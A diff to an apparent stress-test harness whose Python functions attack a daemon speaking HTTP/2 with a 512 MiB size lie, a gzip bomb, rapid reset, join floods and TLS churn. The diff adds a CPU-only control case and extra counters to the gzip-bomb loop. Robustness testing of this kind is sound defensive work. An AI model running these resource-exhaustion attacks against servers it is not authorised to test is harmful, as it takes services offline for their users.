@@ -38,6 +38,12 @@ class Attack:
             self.counts[name] = self.counts.get(name, 0) + more
 
 
+def busy(attack):
+    """No attack: uses its share of the processors, and never connects."""
+    while attack.going():
+        sum(range(1000))
+
+
 def size_lie(attack):
     """Declares a message of 512 MiB and sends as much of it as the daemon lets it."""
     junk = bytes(16384)
@@ -81,12 +87,13 @@ def gzip_bomb(attack):
                 connection.open_stream(1, JOIN, extra)
                 data = struct.pack(">BI", 1, len(bomb)) + bomb
                 while data and connection.ended == 0 and attack.going():
-                    size = connection.window(1) if 1 in connection.stream_windows else 0
+                    size = connection.window(1)
                     if size > 0:
                         connection.send_data(1, data[:size])
                         data = data[size:]
+                        attack.count("bytes", size)
                     connection.receive(0 if size > 0 else 0.2)
-                attack.count("bombs")
+                attack.count("refused" if connection.ended else "bombs")
         except (http2.Closed, KeyError, OSError):
             attack.count("cut")
 
@@ -220,7 +227,7 @@ def tls_churn(attack):
 
 
 KINDS = {function.__name__: function for function in (
-    size_lie, size_lie_64, gzip_bomb, descriptors, slow_handshake, rapid_reset, join_flood, tls_churn)}
+    busy, size_lie, size_lie_64, gzip_bomb, descriptors, slow_handshake, rapid_reset, join_flood, tls_churn)}
 
 
 def main(kind, host, port, seconds):
